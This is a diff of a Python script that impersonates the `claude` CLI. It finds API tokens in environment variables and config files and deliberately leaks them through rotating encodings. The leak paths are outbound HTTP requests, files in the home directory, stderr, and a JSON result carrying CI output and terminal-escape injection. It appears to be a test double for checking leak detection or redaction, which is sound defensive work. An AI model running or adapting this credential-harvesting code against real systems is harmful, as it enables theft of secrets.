@@ -1,7 +1,7 @@
-"""In the place of `claude`: tells every credential that it is given, wherever it can.
+"""Program that stands in for `claude` and leaks all of its credentials wherever it can.
 
-The first argument is a folder, in which it keeps what it was given and counts how often it was
-started with each kind of credential: at each start the credentials are written in another way.
+The first argument is a folder for its state: the credentials of each start, and the number of
+starts per kind of credential. Each start uses another encoding.
 """
 
 import base64
@@ -26,7 +26,7 @@ def _lines(value: str, width: int, between: str) -> str:
     return between.join(textwrap.wrap(value, width, break_on_hyphens=False))
 
 
-SPELLINGS: dict[str, Callable[[str], str]] = {
+ENCODINGS: dict[str, Callable[[str], str]] = {
     "plain": str,
     "json": lambda value: json.dumps(value).replace("-", "\\u002d"),
     "json in json": lambda value: json.dumps(json.dumps(value).replace("-", "\\u002D")),
@@ -58,8 +58,8 @@ SPELLINGS: dict[str, Callable[[str], str]] = {
 }
 
 
-def given() -> dict[str, str]:
-    """Every credential that it is given, by the kind that its shape tells."""
+def find_credentials() -> dict[str, str]:
+    """Return the credentials of this process by the kind in their prefix."""
     config = pathlib.Path(os.environ["CLAUDE_CONFIG_DIR"])
     texts = list(os.environ.values())
     for name in (".credentials.json", "settings.json"):
@@ -68,13 +68,13 @@ def given() -> dict[str, str]:
             helper = json.loads(texts[-1]).get("apiKeyHelper")
             if helper:
                 texts.append(subprocess.check_output(helper, shell=True, text=True))  # noqa: S602
-    found = re.findall(r"sk-ant-([a-z]+)[0-9]*-[A-Za-z0-9_-]+", "\n".join(texts))
+    kinds = re.findall(r"sk-ant-([a-z]+)[0-9]*-[A-Za-z0-9_-]+", "\n".join(texts))
     values = re.findall(r"sk-ant-[a-z]+[0-9]*-[A-Za-z0-9_-]+", "\n".join(texts))
-    return dict(zip(found, values, strict=True))
+    return dict(zip(kinds, values, strict=True))
 
 
-def how_often(folder: pathlib.Path, kind: str) -> int:
-    """How often it was started with this kind before."""
+def count_start(folder: pathlib.Path, kind: str) -> int:
+    """Record a start with this kind of credential; return the number of earlier ones."""
     for number in range(1000):
         try:
             (folder / f"{kind}-{number}").mkdir()
@@ -94,15 +94,15 @@ def ask(first_line: str, *headers: str) -> None:
             pass
 
 
-def tell(folder: pathlib.Path) -> None:
-    """Tell what it was given: to the backend, in files, and to its user."""
-    values = given()
+def leak(folder: pathlib.Path) -> None:
+    """Leak the credentials: to the backend, into files, and to the user."""
+    values = find_credentials()
     kind, value = next(iter(sorted(values.items())), ("", ""))
-    number = how_often(folder, kind or "none")
-    spell = list(SPELLINGS.values())[number % len(SPELLINGS)]
+    number = count_start(folder, kind or "none")
+    encode = list(ENCODINGS.values())[number % len(ENCODINGS)]
     (folder / f"{kind}-{number}" / "values").write_text("\n".join(values.values()))
-    written = " and ".join(map(spell, values.values()))
-    line = re.sub(r"[\x00-\x20\x7f-\uffff]", "", written)
+    encoded = " and ".join(map(encode, values.values()))
+    line = re.sub(r"[\x00-\x20\x7f-\uffff]", "", encoded)
     ask(f"CONNECT {line[:200]}.example.org:443 HTTP/1.1")
     ask(
         f"POST http://api.anthropic.com/v1/{line}?key={line} HTTP/1.1",
@@ -114,7 +114,7 @@ def tell(folder: pathlib.Path) -> None:
         f"user-agent: claude-cli/1.2.3 {line}",
     )
     home = pathlib.Path(os.environ["HOME"])
-    (home / "debug.log").write_text(f"the token: {written}")
+    (home / "debug.log").write_text(f"the token: {encoded}")
     (home / line.replace("/", "")[:200]).touch()
     if kind == "jwt":
         ask(
@@ -123,10 +123,10 @@ def tell(folder: pathlib.Path) -> None:
             f"user-agent: claude-cli/9{line}",
         )
     if kind == "api":
-        print(f"fatal: {written}", file=sys.stderr)
+        print(f"fatal: {encoded}", file=sys.stderr)
         sys.exit(3)
-    told = f"It says {written} there.\n::set-output name=a::{value}\x1b]0;{value}\x07\u202e"
-    print(json.dumps({"type": "result", "is_error": True, "result": told}))
+    message = f"It says {encoded} there.\n::set-output name=a::{value}\x1b]0;{value}\x07\u202e"
+    print(json.dumps({"type": "result", "is_error": True, "result": message}))
     sys.exit(1)
 
 
@@ -134,4 +134,4 @@ if __name__ == "__main__":
     if "--version" in sys.argv:
         print("1.2.3 (Claude Code)")
     else:
-        tell(pathlib.Path(sys.argv[1]))
+        leak(pathlib.Path(sys.argv[1]))
